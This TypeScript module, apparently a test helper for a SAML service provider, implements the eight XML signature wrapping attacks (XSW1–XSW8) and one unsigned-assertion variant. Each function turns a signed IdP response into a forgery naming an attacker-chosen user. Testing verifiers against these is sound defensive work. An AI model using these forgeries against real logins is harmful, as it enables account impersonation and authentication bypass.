import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { samlId } from './idp-response'

/**
 * The eight XML signature wrapping attacks (Somorovsky et al., "On Breaking SAML", 2012; the
 * XSW1-XSW8 of SAML Raider): each keeps the IdP's signed element somewhere a verifier may find
 * it and puts an attacker's assertion where a careless reader takes its claims from.
 */
export type Wrapping = (signedXml: string, evilNameId: string) => string

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol'
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion'
const DS = 'http://www.w3.org/2000/09/xmldsig#'

const parse = (xml: string) => {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement
  if (!response) throw new Error('no document')
  const assertion = document.getElementsByTagNameNS(SAML, 'Assertion')[0]
  if (!assertion) throw new Error('no assertion')
  return { document, response, assertion }
}

const ownSignature = (element: Element): Element => {
  for (let node = element.firstChild; node; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).localName === 'Signature') return node as Element
  }
  throw new Error('the element is not signed')
}

const withoutSignature = (element: Element): Element => {
  const copy = element.cloneNode(true) as Element
  copy.removeChild(ownSignature(copy))
  return copy
}

const rename = (element: Element, nameId: string): Element => {
  const name = element.getElementsByTagNameNS(SAML, 'NameID')[0]
  if (!name) throw new Error('no NameID')
  name.textContent = nameId
  return element
}

const serialise = (node: Node): string => new XMLSerializer().serializeToString(node)

/** XSW1: an evil Response, the signed original (unsigned copy) appended inside its Signature. */
const xsw1: Wrapping = (xml, evil) => {
  const { response, assertion } = parse(xml)
  const original = withoutSignature(response)
  ownSignature(response).appendChild(original)
  response.setAttribute('ID', samlId())
  rename(assertion, evil)
  return serialise(response)
}

/** XSW2: as XSW1, the original Response detached before the Signature. */
const xsw2: Wrapping = (xml, evil) => {
  const { response, assertion } = parse(xml)
  const signature = ownSignature(response)
  response.insertBefore(withoutSignature(response), signature)
  response.setAttribute('ID', samlId())
  rename(assertion, evil)
  return serialise(response)
}

/** XSW3: an evil Assertion (new ID, unsigned) before the signed one. */
const xsw3: Wrapping = (xml, evil) => {
  const { response, assertion } = parse(xml)
  const copy = rename(withoutSignature(assertion), evil)
  copy.setAttribute('ID', samlId())
  response.insertBefore(copy, assertion)
  return serialise(response)
}

/** XSW4: the signed Assertion wrapped inside an evil one. */
const xsw4: Wrapping = (xml, evil) => {
  const { response, assertion } = parse(xml)
  const copy = rename(withoutSignature(assertion), evil)
  copy.setAttribute('ID', samlId())
  response.replaceChild(copy, assertion)
  copy.appendChild(assertion)
  return serialise(response)
}

/** XSW5: the signed Assertion altered in place, an untouched unsigned copy appended to the Response. */
const xsw5: Wrapping = (xml, evil) => {
  const { response, assertion } = parse(xml)
  const original = withoutSignature(assertion)
  rename(assertion, evil)
  response.appendChild(original)
  return serialise(response)
}

/** XSW6: the signed Assertion altered, the untouched copy inside its Signature. */
const xsw6: Wrapping = (xml, evil) => {
  const { response, assertion } = parse(xml)
  const original = withoutSignature(assertion)
  rename(assertion, evil)
  ownSignature(assertion).appendChild(original)
  return serialise(response)
}

/** XSW7: the signed Assertion moved into an Extensions block, an evil unsigned one in its place. */
const xsw7: Wrapping = (xml, evil) => {
  const { document, response, assertion } = parse(xml)
  const extensions = document.createElementNS(SAMLP, 'samlp:Extensions')
  const copy = rename(withoutSignature(assertion), evil)
  response.replaceChild(copy, assertion)
  extensions.appendChild(assertion)
  response.insertBefore(extensions, copy)
  return serialise(response)
}

/** XSW8: the signed Assertion altered, the untouched copy in a ds:Object of its Signature. */
const xsw8: Wrapping = (xml, evil) => {
  const { document, response, assertion } = parse(xml)
  const original = withoutSignature(assertion)
  rename(assertion, evil)
  const object = document.createElementNS(DS, 'ds:Object')
  object.appendChild(original)
  ownSignature(assertion).appendChild(object)
  return serialise(response)
}

/** Each attack by its name; XSW1 and XSW2 need a signed Response. */
export const wrappings: Record<string, Wrapping> = {
  xsw1,
  xsw2,
  xsw3,
  xsw4,
  xsw5,
  xsw6,
  xsw7,
  xsw8,
}

/** A second, unsigned assertion beside the signed one (after it). */
export const unsignedBeside: Wrapping = (xml, evil) => {
  const { response, assertion } = parse(xml)
  const copy = rename(withoutSignature(assertion), evil)
  copy.setAttribute('ID', samlId())
  response.appendChild(copy)
  return serialise(response)
}
